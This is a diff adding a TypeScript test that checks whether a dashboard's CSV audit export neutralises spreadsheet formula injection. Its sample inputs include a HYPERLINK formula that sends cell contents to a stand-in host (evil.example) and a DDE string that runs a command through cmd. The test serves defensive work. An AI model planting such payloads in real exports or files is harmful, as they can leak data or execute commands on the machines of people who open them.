@@ -50,6 +50,34 @@ describe("the dashboard's export route checks the role on the server", () => {
     expect(exported[0]).toMatchObject({ actorId: members.auditor!.id, outcome: "success" });
   });
 
+  it("neutralises formula cells (=, +, -, @, tab, CR) an agent or a person put in the trail — security #17.9", async () => {
+    const { workspace, members } = await seedWorkspace(["auditor"]);
+    const attacks = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1"];
+    for (const reason of attacks) {
+      await writeAudit(getDb(), {
+        workspaceId: workspace.id,
+        actor: { type: "identity", id: null, name: "@evil-bot" },
+        action: "test.formula",
+        target: "=1+1",
+        reason,
+      });
+    }
+    session.userId = members.auditor!.id;
+    const text = await (await download(workspace.slug, "format=csv&action=test.formula")).text();
+    // As a spreadsheet reads it: no cell starts with a formula character.
+    const cells = text
+      .split("\r\n")
+      .slice(1)
+      .filter(Boolean)
+      .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g)!.map((c) => c.replace(/,$/, "")));
+    for (const cell of cells) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r]/);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
+    // And the export still says exactly what was stored.
+    const [header, ...rows] = parseCsv(text);
+    expect(rows.map((r) => r[header!.indexOf("reason")]).sort()).toEqual([...attacks].sort());
+    expect(new Set(rows.map((r) => r[header!.indexOf("actorName")]))).toEqual(new Set(["@evil-bot"]));
+  });
+
   it("refuses a viewer and an operator (403), audits the refusal, sends no data", async () => {
     const { workspace, members } = await seedWorkspace(["admin", "viewer", "operator"]);
     for (const role of ["viewer", "operator"] as const) {
